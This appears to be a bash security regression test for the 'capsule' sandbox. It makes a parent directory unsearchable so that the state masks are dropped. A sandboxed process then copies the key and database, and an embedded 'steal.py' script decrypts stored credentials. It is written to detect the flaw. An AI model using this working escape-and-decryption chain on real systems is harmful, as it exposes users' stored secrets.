#!/bin/bash
# Finding (unprivileged capsule, a read-write grant covering the state
# directory's parent, e.g. --allow-rw $HOME): the state directories to mask
# are found by realpath() with the caller's rights
# (src/gateway/state_dirs.c add_dir; the marker scan in
# src/sandbox/mount_plan.c opens directories the same way), and a path that
# cannot be resolved is silently left out of the masks. The tool has the
# caller's uid, so in run 1 it does `chmod 000 ~/.local` (the pinned
# ancestors of the mask stop a rename, not a chmod). In run 2 capsule can no
# longer resolve ~/.local/state/capsule, masks nothing, and the tool does
# `chmod 755 ~/.local`, copies the key and state.db, decrypts the stored
# credential and leaves everything as it was. Exits 1 when the credential is
# read, 0 when blocked, 77 when it cannot run.
capsule=$(realpath "${1:-build/capsule}")
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root to act as uid 65534"; exit 77; }
setpriv --reuid=65534 --regid=65534 --clear-groups -- test -x "$capsule" ||
  { echo "SKIP: uid 65534 cannot run $capsule"; exit 77; }
python3 -c 'import ctypes; ctypes.CDLL("libsodium.so.23")' 2>/dev/null || { echo "SKIP: no libsodium"; exit 77; }
H=$(mktemp -d /var/tmp/capsule-review2-home.XXXXXX); trap 'chmod -R u+rwx "$H" 2>/dev/null; rm -rf "$H"' EXIT
chown 65534:65534 "$H"; chmod 755 "$H"
as_op() { (cd /tmp && setpriv --reuid=65534 --regid=65534 --clear-groups -- env HOME="$H" USER=nobody "$@"); }
printf 'ghp_OPERATOR_SECRET_%s' $$ | as_op "$capsule" cred set --shared GITHUB_TOKEN --scope system >/dev/null ||
  { echo "setup: cred set failed"; exit 2; }
cat >"$H/steal.py" <<'PY'
import ctypes, sqlite3, sys
d = sys.argv[1]
na = ctypes.CDLL("libsodium.so.23"); na.sodium_init()
key = open(d + "/key", "rb").read()
sub = ctypes.create_string_buffer(32)
na.crypto_kdf_derive_from_key(sub, ctypes.c_size_t(32), ctypes.c_uint64(1), b"capsule_", key)
db = sqlite3.connect("file:" + d + "/state.db?mode=ro&immutable=1", uri=True)
for cap, name, scope, user, nonce, sealed in db.execute(
        "SELECT capability, name, scope, user, nonce, sealed FROM credentials"):
    ad = ((cap + "\0" if cap else "") + name + "\0" + scope + "\0" + user).encode()
    out = ctypes.create_string_buffer(len(sealed)); olen = ctypes.c_ulonglong(0)
    if na.crypto_aead_xchacha20poly1305_ietf_decrypt(out, ctypes.byref(olen), None, sealed,
            ctypes.c_ulonglong(len(sealed)), ad, ctypes.c_ulonglong(len(ad)), nonce, sub) == 0:
        print("STOLEN %s=%s" % (name, out.raw[:olen.value].decode()))
PY
chmod 644 "$H/steal.py"
L=$H/.local
# run 1: make the state's parent unsearchable for the caller (no rename needed)
as_op "$capsule" run --allow-rw "$H" -- /bin/sh -c "chmod 000 $L && echo 'run 1: chmod 000 ~/.local'" 2>&1
# run 2: capsule cannot resolve the state directory and masks nothing
out=$(as_op "$capsule" run --allow-rw "$H" -- /bin/sh -c "
  chmod 755 $L && mkdir -p $H/loot && cp $L/state/capsule/key $L/state/capsule/state.db $H/loot/ &&
  python3 $H/steal.py $H/loot" 2>&1)
chmod 755 "$L" 2>/dev/null
echo "tool's second run: $out"
if grep -q "ghp_OPERATOR_SECRET_$$" <<<"$out"; then
  echo "VULNERABLE: the tool read the state key and decrypted the operator's credential"; exit 1
fi
echo blocked; exit 0
